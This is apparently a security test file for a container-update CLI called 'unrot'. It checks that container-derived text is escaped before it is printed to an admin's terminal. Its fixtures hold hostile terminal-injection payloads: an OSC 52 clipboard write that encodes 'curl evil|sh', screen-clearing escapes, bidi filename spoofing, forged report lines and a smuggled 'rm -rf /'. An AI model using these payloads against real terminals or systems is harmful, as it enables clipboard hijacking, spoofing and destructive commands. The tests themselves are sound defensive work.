// Attack: text from inside a container (package versions, stderr, container names and tags,
// snapshot descriptions) reaches the admin's terminal. Before the sanitiser, `unrot report`,
// `plan`, `run` and `targets` printed it raw: an OSC 52 sequence wrote the admin's clipboard, ESC
// sequences cleared the screen, and a newline in a version forged a report line.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Value } from '@sinclair/typebox/value';
import { type ContainerReport, REPORT_SCHEMA_ID, type RunReport, RunReportSchema, type TargetDecision } from '@unrot/engine';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatReport, formatTargets } from '../../packages/cli/src/lib/format-report.js';
import { formatArgv } from '../../packages/cli/src/lib/shell-quote.js';
import { BIDI, C1, CLEAR, FORGED, OSC52, RAW_CONTROL } from './hostile.js';

const bin = join(import.meta.dirname, '../../packages/cli/bin/run.js');
const RUN_ID = '20261202T021500Z-3fa9c2';

function unrot(...args: string[]) {
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8' });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const hostileContainer: ContainerReport = {
  vmid: 101,
  name: `web${CLEAR}`,
  status: 'running',
  unprivileged: true,
  tags: [`prod${C1}`],
  outcome: 'failed',
  error: { step: 'apply', runner: 'apt', code: 'E_RUNNER_FAILED', message: `apt-get failed: E: ${OSC52}broken${BIDI}` },
  runners: [
    {
      id: 'apt',
      applicable: true,
      updates: [{ name: `openssl${BIDI}`, from: '1.0', to: `${FORGED}${OSC52}` }],
      withheld: [],
      plan: [],
      changed: [],
      durationsMs: {},
    },
  ],
  changingCommands: 0,
  durationMs: 10,
};

const hostileReport: RunReport = {
  schema: REPORT_SCHEMA_ID,
  runId: RUN_ID,
  dryRun: false,
  startedAt: '2026-12-02T02:15:00.000Z',
  finishedAt: '2026-12-02T02:16:00.000Z',
  durationMs: 60_000,
  unrotVersion: '0.1.0',
  host: { node: 'pve1', hostname: 'pve1' },
  configDir: '/etc/unrot',
  selection: { cts: [], tags: [] },
  exitCode: 1,
  summary: { containers: 1, updated: 0, rolledBack: 0, nothingToDo: 0, planned: 0, skipped: 0, failed: 1, packagesChanged: 0 },
  containers: [hostileContainer],
  recoveries: [],
  logDir: `/var/lib/unrot/runs/${RUN_ID}`,
};

/** A state dir holding the hostile report as the latest run, as a container's output would put it there. */
function stateDirWithReport(): string {
  const state = mkdtempSync(join(tmpdir(), 'unrot-sec-out-'));
  mkdirSync(join(state, 'runs', RUN_ID), { recursive: true, mode: 0o700 });
  writeFileSync(join(state, 'runs', RUN_ID, 'report.json'), JSON.stringify(hostileReport), { mode: 0o600 });
  symlinkSync(RUN_ID, join(state, 'runs', 'latest'));
  return state;
}

describe('terminal output of container-derived text', () => {
  // One CLI process per output form; each test reads what it printed.
  let text: ReturnType<typeof unrot>;
  let json: ReturnType<typeof unrot>;
  let error: ReturnType<typeof unrot>;
  beforeAll(() => {
    const state = stateDirWithReport();
    text = unrot('report', '--state-dir', state);
    json = unrot('report', '--json', '--state-dir', state);
    error = unrot('report', `${RUN_ID}${OSC52}`, '--state-dir', state);
  });

  it('the fixture is a valid run report (the attack goes through the real reader)', () => {
    expect([...Value.Errors(RunReportSchema, hostileReport)]).toEqual([]);
  });

  it('unrot report prints OSC 52, screen-clearing ESC, C1 and bidi controls escaped, never raw', () => {
    expect(text.stderr).toBe('');
    expect(text.stdout).not.toMatch(RAW_CONTROL);
    expect(text.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsfHNo\\x07');
    expect(text.stdout).toContain('web\\x1b[2J\\x1b[H');
    expect(text.stdout).toContain('openssl\\u202egnp.exe\\u202c');
    expect(text.stdout).toContain('prod\\u009b31m\\u007f');
  });

  it('a newline in a package version cannot forge a line of the report', () => {
    expect(text.stdout).toContain('2.0\\nCT 999 fake: nothing to do');
    expect(text.stdout.split('\n').some((line) => line.startsWith('CT 999'))).toBe(false);
  });

  it('unrot report --json escapes what JSON.stringify leaves raw (C1, DEL, bidi) and parses back to the same report', () => {
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout)).toEqual(hostileReport);
  });

  it('an error message quoting hostile text reaches stderr escaped', () => {
    expect(error.code).toBe(2);
    expect(error.stderr).not.toMatch(RAW_CONTROL);
    expect(error.stderr).toContain('\\x1b]52;');
  });

  it('plan/run output (formatReport) escapes every field, one report line per line', () => {
    const text = formatReport({ ...hostileReport, dryRun: true, containers: [{ ...hostileContainer, outcome: 'planned' }] });
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text.split('\n').filter((l) => l.startsWith('CT '))).toHaveLength(1);
  });

  it('unrot targets escapes a hostile container name and skip detail', () => {
    const decisions = [
      { vmid: 101, name: `a${CLEAR}\nCT 102 selected`, selected: false, reason: 'stopped', detail: `x${OSC52}` },
    ] as unknown as TargetDecision[];
    const text = formatTargets(decisions);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text.split('\n')).toHaveLength(2);
  });

  it('a printed command with a control character in an argument stays one exact, copy-pasteable line', () => {
    const printed = formatArgv(['pct', 'exec', '101', '--', 'touch', `/tmp/a\nrm -rf /${OSC52}`]);
    expect(printed).toBe("pct exec 101 -- touch $'/tmp/a\\nrm -rf /\\x1b]52;c;Y3VybCBldmlsfHNo\\x07'");
    // bash reads it back to the very same argument
    const echoed = spawnSync('bash', ['-c', `printf %s ${printed.split(' -- touch ')[1]}`], { encoding: 'utf8' });
    expect(echoed.stdout).toBe(`/tmp/a\nrm -rf /${OSC52}`);
  });
});
